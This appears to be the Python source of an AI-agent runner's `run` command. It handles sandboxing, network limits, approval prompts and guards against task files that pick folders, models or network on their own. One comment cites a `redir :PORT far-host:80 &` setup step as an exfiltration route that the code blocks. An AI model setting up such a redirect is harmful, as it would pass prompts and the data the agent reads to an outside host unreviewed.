"""`macrohard run`: one task, live steps, a summary."""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Annotated, Any

import typer
from rich.markup import escape

from macrohard.cli.closing import print_changes_note, watched
from macrohard.cli.common import confirm, console, err_console, open_store, print_json
from macrohard.cli.validate import checked_task
from macrohard.cli.view import (
    BODY_CHARS,
    HEAD_CHARS,
    ModelWait,
    action_summary,
    clip,
    print_step,
    print_summary,
    sandbox_line,
    visible,
)
from macrohard.errors import NotFound, UserError
from macrohard.tasks import confine_task_paths, load_task_and_check
from macrohard.types import Run, RunStatus, Step, Verdict

if TYPE_CHECKING:
    from macrohard.safety.guard import Guard

# start52: the guard (its rules and screens), the runner and the models are imported when `run` has checked what it
# was given: `macrohard run --help` and a run refused for its input (no task, a bad task file, a bad --network) no
# longer pay ~0.4 s of CPU for them


def _asker(guard: Guard, *, interactive: bool | None = None) -> Callable[[Any, Verdict], bool]:
    """The approval callback: show the action and the reason, wait for y/n. With no terminal, the
    policy's ``defaults.non_interactive`` decides (deny unless the policy says allow)."""

    def no_terminal() -> bool:
        return not (sys.stdin.isatty() if interactive is None else interactive)

    def ask(action: Any, verdict: Verdict) -> bool:
        # all of it (a long command's tail is where the harm would hide), and nothing that drives the terminal
        what = escape(visible(clip(action_summary(action), BODY_CHARS)) if action is not None else "(answer)")
        if no_terminal():
            allowed = guard.policy.defaults.non_interactive == "allow"
            # stderr: a note beside the step, never inside what --json prints
            err_console.print(f"      [yellow]needs approval ({escape(verdict.reason)}); no terminal to ask, so "
                          f"{'allowed by the policy' if allowed else 'denied'}[/]")
            return allowed
        console.print(f"[yellow]The guard asks:[/] {what}\n  reason: {escape(visible(clip(verdict.reason, HEAD_CHARS)))} "
                      f"[dim]({escape(verdict.check)})[/]")
        return confirm("  Allow this action?")

    # ux55: who answered, for the record (`safety.context.answered_by`): with no terminal nobody was asked, so the
    # policy answered ("denied by policy: no terminal to ask"), not the user; the answer itself stays a plain bool
    ask.answered_by = lambda: "policy: no terminal to ask" if no_terminal() else "user"  # type: ignore[attr-defined]
    return ask


def run(
    task: Annotated[str | None, typer.Argument(help="What the agent should do, in plain words.")] = None,
    task_file: Annotated[Path | None, typer.Option("--task-file", "-f", help="A YAML task file instead of TASK. Its `mcp:` stdio servers run in a bubblewrap sandbox (no network, the shell's memory, process and CPU limits, a clean environment: HOME, PATH... and their `env:`); an entry's `network: full` is taken only with your word (--mcp-network NAME, or `network:` in your own $MACROHARD_HOME/mcp.yaml), else the run is refused; on this machine, outside the sandbox, only those your own mcp.yaml lists under `host:`.")] = None,
    model: Annotated[str | None, typer.Option("--model", "-m", help="Model spec: local, local:qwen-1.5b, xai, openai:MODEL, http://HOST/v1 … (default: $MACROHARD_MODEL, else local:qwen-1.5b when installed, else local; see `macrohard models`). A task file's own `model:` may name a local model, `scripted:FILE` or a server on this machine's loopback (sent no key); a provider preset (xai, openai) runs on your key and money, so it is taken only when you name it here.")] = None,
    environment: Annotated[str | None, typer.Option("--environment", "-e", help="Where the agent works: shell (default), browser, desktop.")] = None,
    workspace: Annotated[Path | None, typer.Option("--workspace", "-w", help="Directory to work in (default: a fresh one).")] = None,
    max_steps: Annotated[int | None, typer.Option("--max-steps", help="Step budget.")] = None,
    model_timeout: Annotated[float | None, typer.Option("--model-timeout", help="Most seconds one model call may take (default 300; never past the run's max_seconds).")] = None,
    as_json: Annotated[bool, typer.Option("--json", help="Print the finished run as JSON, no live view.")] = False,
    source: Annotated[Path | None, typer.Option("--source", help="Start from this project directory, copy-on-write: it is never modified; see `macrohard runs diff/apply ID`.")] = None,
    network: Annotated[str | None, typer.Option("--network", help="Sandbox network: none (default), loopback, hosts, full.")] = None,
    allow_host: Annotated[list[str] | None, typer.Option("--allow-host", help="A host the sandbox may reach (network 'hosts'); repeat for more.")] = None,
    no_sandbox: Annotated[bool, typer.Option("--no-sandbox", help="UNSAFE: run commands on this machine without bubblewrap.")] = False,
    write_back: Annotated[bool, typer.Option("--write-back", help="Write the agent's changes into --workspace (or --source) when the run ends; without it they wait for `macrohard runs apply ID`. Files that run code on this machine later (git hooks, Makefile, package.json scripts, conftest.py, .envrc, CI...) are held back and listed: at a terminal you are asked, elsewhere `macrohard runs apply ID` writes them. Recorded with the run.")] = False,
    policy: Annotated[Path | None, typer.Option("--policy", help="Safety policy YAML (default: $MACROHARD_POLICY, $MACROHARD_HOME/policy.yaml, or the built-in; see `macrohard policy show`).")] = None,
    division: Annotated[str | None, typer.Option("--division", "-d", help="Run as this division: its prompt, environments, policy overlay, budgets and model (see `macrohard divisions`).")] = None,
    mcp_network: Annotated[list[str] | None, typer.Option("--mcp-network", help="Let the task's MCP server NAME have the network its entry asks (`network: full`); a task file's own word is not enough (its server would send what it reads anywhere, unreviewed). Repeat for more; or list it under `network:` in your own $MACROHARD_HOME/mcp.yaml.")] = None,
    allow_source: Annotated[list[Path] | None, typer.Option("--allow-source", help="A folder outside the task file's own folder that its `workspace:` or `source:` may name; repeat for more. Without it (or your own -w/--source) a task file's `workspace:` and `source:` must lie beside it (a relative path is read from the task file's folder): a task file written by someone else does not choose which of your folders its run works in and writes back to.")] = None,
    wallet: Annotated[str | None, typer.Option("--wallet", help="Let the agent pay (`pay`, HTTP 402 offers) from this ledger account within the policy's money limits; a USD wallet also pays the model (see `macrohard money`).")] = None,
) -> None:
    """Run an agent on a task and watch each step live."""
    if (task is None) == (task_file is None):
        raise UserError("give a task in quotes, or --task-file FILE (one of them)")
    if task is not None and not task.split()[1:] and task.strip().lower().endswith((".yaml", ".yml")):
        # `macrohard run task.yaml` (the -f forgotten) would hand the file's name to the agent as the task
        raise UserError(f"{task.strip()!r} looks like a task file, not a task: run it with "
                        f"`macrohard run -f {task.strip()}` (a task in plain words goes in quotes)")
    spec, check = load_task_and_check(task_file) if task_file else (None, None)
    if spec is not None and task_file is not None:  # rt49: the task file's folders, beside it or by the person's word
        confine_task_paths(spec, task_file, allow_source or (),
                           given=[f for f, v in (("workspace", workspace), ("source", source)) if v is not None])
    updates: dict[str, Any] = {}
    if model:
        updates["model"] = model
    keyless = False
    if not model and spec is not None:  # rt47: the task file's own model: no server that gets the person's key
        from macrohard.models import task_file_model, task_file_preset

        keyless = task_file_model(spec.model, f"the task file {task_file}")
        task_file_preset(spec.model, f"the task file {task_file}")  # rt48c: a preset runs on the person's key
    if workspace:
        updates["workspace"] = str(workspace)
    if source:
        updates["source"] = str(source.expanduser().resolve())
    if write_back:
        updates["write_back"] = True
    if allow_host:
        updates["allow_hosts"] = list(allow_host)
        network = network or "hosts"
    if environment:
        updates["environment"] = environment
    if network:
        updates["network"] = network
    budget_updates: dict[str, Any] = {}
    if max_steps is not None:
        budget_updates["max_steps"] = max_steps
    if model_timeout is not None:
        budget_updates["max_model_seconds"] = model_timeout
    base = spec.model_dump(exclude_unset=bool(division)) if spec else {"text": task}
    div = None
    if division:
        from macrohard.divisions.catalog import get_division, load_divisions

        divisions = load_divisions()
        div = get_division(division, divisions)
        if div.gate == "tests" and source is not None:  # a coding run: the repository's tests gate its change
            from macrohard.cli.code import code

            code(spec.text if spec else task or "", source=source, model=model, max_steps=max_steps,
                 as_json=as_json, policy=policy, division=div.name)
        base, updates = _as_division(div, base, updates)
    spec = checked_task(base, updates, budget_updates)

    from macrohard.models import get_model
    from macrohard.runner import run_task
    from macrohard.safety.guard import Guard

    guard = Guard.from_policy(str(policy) if policy else None)
    store = open_store()
    extra_envs: list[Any] = []
    if wallet:
        from macrohard.money.wallet import open_wallet

        extra_envs.append(open_wallet(store, wallet, guard.policy))
    keyless = keyless and spec.model == base.get("model")
    if keyless and spec.network == "full":
        # rt48c: with `full` the sandbox shares this machine's network, so a process of the run itself (a setup
        # step's `redir :PORT far-host:80 &`) can be the "loopback" server and pass every prompt on, unreviewed
        raise UserError(f"the task file {task_file} names a model server on this machine's loopback "
                        f"({spec.model.partition('#')[0]!r}) for a run with network 'full': a program of the run itself "
                        "could listen there and pass every prompt (the task, and all the agent reads) anywhere. If "
                        f"that server is yours, say it with `--model {spec.model}`; or run with less network "
                        "(--network none, loopback or hosts)")
    llm = get_model(spec.model, keyless=keyless)
    limit = spec.budget.max_model_seconds
    if limit is not None and isinstance(getattr(llm, "timeout", None), float) and llm.timeout > limit:
        # an HTTP model retries 5xx within its own timeout: held to the run's deadline, it says what the server
        # answered ("kept failing: HTTP 500 ...") before the deadline, instead of "did not answer within Ns"
        llm.timeout = limit
    run_record = Run(task=spec, model=llm.name)
    if mcp_network:  # the person's word, never the task file's (rt46): the MCP servers that may have the network
        run_record.meta["mcp_network"] = list(mcp_network)
    if task_file is not None:  # the runner never writes it back from the agent's changes (runner.control_files)
        run_record.meta["task_file"] = str(task_file.expanduser().absolute())

    waiting = ModelWait(console)

    def on_note(text: str) -> None:  # rel53b: the screens' one-time build, counted in seconds as the model's wait is
        if not text:
            waiting.stop()
            return
        err_console.print(f"[yellow]{escape(text)}[/]", highlight=False, soft_wrap=True)
        waiting.start(text.split(" (", 1)[0])

    def on_doing(run_id: str, index: int, what: str | None) -> None:  # ux56: the action that runs now, with its seconds
        if what is None:
            waiting.stop()
        else:
            waiting.start(f"step {index}: {what}" if run_id == run_record.id else f"↳ {run_id} step {index}: {what}")

    from macrohard import stopping

    # at a terminal only: a pipe's notes stay the model's (their lines are what scripts and logs read)
    unwatch = stopping.watch_doing(on_doing) if not as_json and console.is_terminal else (lambda: None)

    def on_step(_run: Run, step: Step) -> None:
        waiting.stop()
        if not as_json:
            if _run.id != run_record.id:  # a sub-run of a delegation, shown as it happens
                console.print(f"  [dim]↳ {escape(str(_run.meta.get('division', 'sub-run')))} {_run.id}[/]", highlight=False)
            elif step.index == 1 and (line := sandbox_line(_run)):  # its size is fixed now: said before any step
                console.print(line, highlight=False)
            print_step(step, run_id=_run.id)

    if not as_json:
        console.print(f"[bold]macrohard[/] run [cyan]{run_record.id}[/] · model [cyan]{escape(llm.name)}[/]")
        console.print(f"[bold]task:[/] {escape(clip(spec.text, HEAD_CHARS * 5, f'macrohard runs show {run_record.id} --full'))}",
                      highlight=False)
    try:
        isolation = "none" if no_sandbox else None
        if no_sandbox or os.environ.get("MACROHARD_ISOLATION") == "none":
            err_console.print("[bold red on yellow] WARNING: NO SANDBOX [/] the agent's commands run directly on this "
                              "machine, with your permissions, files and network. Recorded in the run.")
        with watched(then_ignore=True) as watch:  # SIGTERM and SIGHUP stop the run as Ctrl-C does; the close is shown
            if div is not None:
                from macrohard.divisions.runtime import Staff, run_division

                staff = Staff(divisions=divisions, approve=_asker(guard), on_step=on_step, isolation=isolation)
                finished = run_division(spec, div, staff=staff, store=store, guard=guard,
                                        model=llm if as_json else waiting.watch(llm), run=run_record, check=check,
                                        on_close=watch.on_close, extra_envs=extra_envs,
                                        on_note=None if as_json else on_note)
            else:
                finished = run_task(spec, model=llm if as_json else waiting.watch(llm), store=store, on_step=on_step,
                                    approve=_asker(guard), run=run_record, guard=guard, isolation=isolation,
                                    check=check, on_close=watch.on_close, extra_envs=extra_envs,
                                    on_note=None if as_json else on_note)
    except KeyboardInterrupt as exc:
        try:
            finished = store.get_run(run_record.id)
        except NotFound:  # before the run was recorded (the model or the sandbox being made): nothing to keep
            err_console.print(f"\n[yellow]{escape(str(exc) or 'interrupted')} before the run started.[/]")
            raise typer.Exit(130) from None
        err_console.print(f"\n[yellow]{escape(str(exc) or 'interrupted')}; the steps so far are kept.[/]")
    finally:
        unwatch()
        waiting.stop()
    print_changes_note(finished, err_console)
    if not as_json:
        ask_runnable(finished)
    if as_json:
        print_json(finished.model_dump(mode="json"))
    else:
        console.rule()
        print_summary(finished)
        # ux54: a browser or desktop run has its screenshots as a video; before, only `runs --help` said so
        video = (f" · as a video: macrohard runs replay {finished.id}"
                 if finished.task.environment in ("browser", "desktop") and finished.steps else "")
        console.print(f"[dim]see it again: macrohard runs show {finished.id}{video}[/]")
    raise typer.Exit(exit_code(finished))


def _as_division(div: Any, base: dict[str, Any], updates: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    """The task's fields under a division (``divisions.runtime.as_division``: the web's runs page uses it too)."""
    from macrohard.divisions.runtime import as_division

    return as_division(div, base, updates)


def exit_code(run: Run) -> int:
    """0 only when the agent said the task is done and its check, if any, agrees: a give-up, a budget
    end or a false success (claimed, check failed) is non-zero."""
    if run.status is RunStatus.interrupted:
        return 130
    return 0 if run.status is RunStatus.succeeded and run.passed else 1


def ask_runnable(run: Run) -> None:
    """rt45: at a terminal, the files a write-back held back because they run code on this machine later (a hook, a
    Makefile) are shown and the person is asked; elsewhere (a pipe, a script) they stay held back, said how to apply.
    Only when nothing else is held (the run's own policy or task file is never offered here)."""
    info = run.meta.get("sandbox") or {}
    why = info.get("held_back_why") or {}
    if not why or set(info.get("held_back") or []) != set(why) or run.meta.get("applied"):
        return
    try:
        if not (sys.stdin.isatty() and sys.stdout.isatty()):
            return
    except (AttributeError, OSError, ValueError):
        return
    from macrohard.cli.changes import _load
    from macrohard.cli.changes import apply as apply_changes

    _, _, store, source, changes = _load(run.id)
    for change in changes:
        if change.path not in why:
            continue
        text = (store.content(change.new, source, change.path) or b"").decode("utf-8", "replace").splitlines()
        console.print(f"[bold]{escape(change.path)}[/] ({change.status}; {escape(why[change.path])}):", highlight=False)
        for line in text[:40]:
            console.print(f"  {escape(line)}", highlight=False, markup=True)
        if len(text) > 40:
            console.print(f"  [dim]... {len(text) - 40} more line(s): `macrohard runs diff {run.id}`[/]")
    if confirm(f"Write these {len(why)} file(s) into {source}?"):
        apply_changes(run.id)

